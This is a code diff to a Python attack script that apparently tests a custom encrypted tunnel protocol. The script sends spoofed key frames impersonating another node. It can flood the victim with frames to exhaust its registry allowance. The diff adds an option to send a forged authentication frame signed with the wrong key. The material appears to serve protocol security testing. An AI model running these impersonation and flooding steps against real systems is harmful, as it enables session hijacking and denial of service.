@@ -6,6 +6,8 @@ and send stream SYNs under that ID; report which ports answer SYN-ACK.
   attack HOST PORT CLAIM VICTIM SECS [--flood N] [--ports P,P...]
       --flood N: first N PILKs claiming random node IDs (each makes the victim ask
       the registry for a key, which can exhaust its registry allowance).
+      --pila: before the PILK, a PILA claiming CLAIM signed by a fresh key of our
+      own (valid signature, wrong key: an unverified PILA).
       Prints one JSON line: {"session": bool, "synack": [ports], "rst": [ports]}.
       "session": some PILS from the victim decrypted (it installed a session for CLAIM).
 
@@ -22,6 +24,7 @@ import sys
 import time
 import zlib
 
+from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
 from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey, X25519PublicKey
 from cryptography.hazmat.primitives.ciphers.aead import AESGCM
 from cryptography.hazmat.primitives import serialization
@@ -31,6 +34,17 @@ SYN, ACK, FIN, RST = 1, 2, 4, 8
 
 def pilk(node, pub):
     return b"PILK" + struct.pack(">I", node) + pub
+
+
+def raw(pub_or_priv_key):
+    return pub_or_priv_key.public_bytes(serialization.Encoding.Raw, serialization.PublicFormat.Raw)
+
+
+def pila(node, xpub):
+    """tunnel.md §3.2: signed "auth" || node || X25519 key, by a key that is not node's."""
+    ed = Ed25519PrivateKey.generate()
+    body = struct.pack(">I", node) + xpub
+    return b"PILA" + body + raw(ed.public_key()) + ed.sign(b"auth" + body)
 
 
 def packet(flags, proto, src, dst, sport, dport, seq=0, ack=0, win=64, payload=b""):
@@ -75,17 +89,20 @@ class Session:
         return None
 
 
-def attack(host, port, claim, victim, secs, flood=0, ports=(7, 444)):
+def attack(host, port, claim, victim, secs, flood=0, ports=(7, 444), first_pila=False):
     dst = (host, int(port))
     claim, victim, secs = int(claim), int(victim), float(secs)
     s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     s.bind(("0.0.0.0", 0))
     for i in range(flood):  # bounded: N frames, ~400/s
         s.sendto(pilk(int.from_bytes(os.urandom(4), "big") | 0x40000000, os.urandom(32)), dst)
-        if i % 20 == 19:
-            time.sleep(0.05)
+        if i % 10 == 9:
+            time.sleep(0.025)
     priv = X25519PrivateKey.generate()
-    pub = priv.public_key().public_bytes(serialization.Encoding.Raw, serialization.PublicFormat.Raw)
+    pub = raw(priv.public_key())
+    if first_pila:
+        s.sendto(pila(claim, pub), dst)
+        time.sleep(0.3)
     sess, session, synack, rst = None, False, set(), set()
     end = time.time() + secs
     next_send = 0.0
@@ -135,9 +152,13 @@ def main():
     a = sys.argv[1:]
     if len(a) < 6 or a[0] != "attack":
         sys.exit(__doc__)
-    flood, ports = 0, (7, 444)
+    flood, ports, first_pila = 0, (7, 444), False
     rest = a[6:]
     while rest:
+        if rest[0] == "--pila":
+            first_pila = True
+            rest = rest[1:]
+            continue
         if rest[0] == "--flood" and len(rest) > 1:
             flood = int(rest[1])
         elif rest[0] == "--ports" and len(rest) > 1:
@@ -145,7 +166,7 @@ def main():
         else:
             sys.exit(__doc__)
         rest = rest[2:]
-    attack(a[1], a[2], a[3], a[4], a[5], flood, ports)
+    attack(a[1], a[2], a[3], a[4], a[5], flood, ports, first_pila)
 
 
 if __name__ == "__main__":
